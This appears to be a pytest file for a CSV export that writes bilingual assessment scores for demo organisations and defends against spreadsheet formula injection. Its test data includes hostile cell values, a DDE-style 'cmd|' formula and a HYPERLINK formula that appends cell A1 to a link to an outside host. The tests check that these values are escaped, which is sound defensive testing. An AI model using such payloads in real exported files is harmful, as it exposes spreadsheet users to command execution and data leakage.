"""A round as CSV: readable by spreadsheet programs, and nothing in it runs."""

import csv
import io

import pytest

from tests.publishing.conftest import Assessed
from toolkit.publishing.round_table import round_rows, round_table
from toolkit.publishing.table import as_csv, neutralised

CODES = ["C1", "C2", "C3", "C4", "C5", "C6", "C7"]
HEAD = ["unit", "name_zh", "name_en", "class", "class_en", "status", "status_en", "demo"]
COLUMNS = [*HEAD, *(f"{code}_{side}" for code in CODES for side in ("claimed", "verified"))]
COLUMNS += ["claimed_total", "total", "rank", "grade", "grade_zh", "grade_en"]


def csv_of(assessed: Assessed) -> bytes:
    outcome = assessed[0]
    return b"".join(as_csv(round_table(outcome).fields, round_rows(outcome)))


def rows(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_the_file_begins_with_a_mark_and_ends_its_lines_as_windows_does(
    demo_round: Assessed,
) -> None:
    raw = csv_of(demo_round)
    assert raw.startswith(b"\xef\xbb\xbfunit,name_zh,name_en,")
    assert raw.count(b"\xef\xbb\xbf") == 1
    assert raw.endswith(b"\r\n")
    assert raw.count(b"\r\n") == raw.count(b"\n") == raw.count(b"\r") == 7


def test_a_row_for_each_unit_in_the_order_of_the_register(demo_round: Assessed) -> None:
    reader = csv.DictReader(io.StringIO(csv_of(demo_round).decode("utf-8-sig"), newline=""))
    assert reader.fieldnames == COLUMNS
    assert [row["unit"].removeprefix("keqiao-demo-") for row in reader] == [
        *["loom", "dyeing", "garden"],
        *["digital", "food", "craft"],
    ]


def test_the_numbers_of_a_row(demo_round: Assessed) -> None:
    loom = rows(csv_of(demo_round))[0]
    assert loom == {
        **{"unit": "keqiao-demo-loom", "demo": "true", "class": "1类", "status": "已核定"},
        **{"class_en": "Class 1", "status_en": "verified"},
        **{"name_zh": "示例·智能织机学会", "name_en": "Demo Society for Smart Looms"},
        **{"C1_claimed": "25.00", "C1_verified": "25.00"},
        **{"C2_claimed": "15.00", "C2_verified": "13.50"},
        **{"C3_claimed": "15.00", "C3_verified": "12.00"},
        **{"C4_claimed": "15.00", "C4_verified": "12.00"},
        **{"C5_claimed": "10.00", "C5_verified": "10.00"},
        **{"C6_claimed": "0.00", "C6_verified": "0.00"},
        **{"C7_claimed": "10.00", "C7_verified": "9.75"},
        **{"claimed_total": "90.00", "total": "82.25"},
        **{"rank": "", "grade": "", "grade_zh": "", "grade_en": ""},
    }


def test_a_score_that_does_not_exist_is_an_empty_cell(demo_round: Assessed) -> None:
    by_unit = {row["unit"]: row for row in rows(csv_of(demo_round))}
    garden = by_unit["keqiao-demo-garden"]
    assert {garden[f"{code}_verified"] for code in CODES} | {garden["total"]} == {""}
    assert garden["C1_claimed"] == "15.00"
    assert garden["C5_claimed"] == "0.00"  # nothing that counted: a score, and it is 0
    assert garden["claimed_total"] == "58.00"
    craft = by_unit["keqiao-demo-craft"]
    assert {craft[column] for column in COLUMNS[8:]} == {""}
    assert craft["status"] == "未申报"


def test_dangerous_names_are_neutralised_and_nothing_else_changes(
    hostile_round: Assessed, demo_round: Assessed
) -> None:
    hostile, tame = rows(csv_of(hostile_round)), rows(csv_of(demo_round))
    food = hostile[4]
    assert food["name_zh"] == '\'＝cmd|甲, "乙"'
    assert food["name_en"] == '\'=HYPERLINK("http://x.org?"&A1,"go, on")'
    assert food["demo"] == "false"
    own = {"name_zh", "name_en", "demo"}
    assert {k: v for k, v in food.items() if k not in own} == {
        k: v for k, v in tame[4].items() if k not in own
    }
    assert [*hostile[:4], *hostile[5:]] == [*tame[:4], *tame[5:]]


# One cell


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠"])
@pytest.mark.parametrize("blank", ["", " ", "  ", "\u3000", "\u00a0", "\t", "\r", "\n", "\r\n"])
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(start: str, blank: str) -> None:
    cell = f"{blank}{start}1+cmd"
    assert neutralised(cell) == f"'{cell}"


@pytest.mark.parametrize("start", ["\t", "\r", "\n"])
def test_a_cell_that_begins_with_a_control_character_gets_one_too(start: str) -> None:
    assert neutralised(f"{start}示例") == f"'{start}示例"


@pytest.mark.parametrize(
    "cell", ["0", "12", "12.50", "-1", "-0.05", "+3", "-1234567.89", "0.00", "82.25"]
)
def test_a_plain_number_stays_one(cell: str) -> None:
    assert neutralised(cell) == cell


@pytest.mark.parametrize(
    "cell",
    ["-1+1", "-1-", "--1", "-", "+", "-1.", "-.5", "-1e5", "-1,5", "-１", "- 1", "-1\n", "+1%"],
)
def test_what_only_begins_like_a_number_does_not(cell: str) -> None:
    assert neutralised(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["", " ", "示例·学会", "a=b", "1+1", "a@b.org", "50%", "A|B", "'=1", "：=1", "未核定"]
)
def test_other_text_is_left_alone(cell: str) -> None:
    assert neutralised(cell) == cell
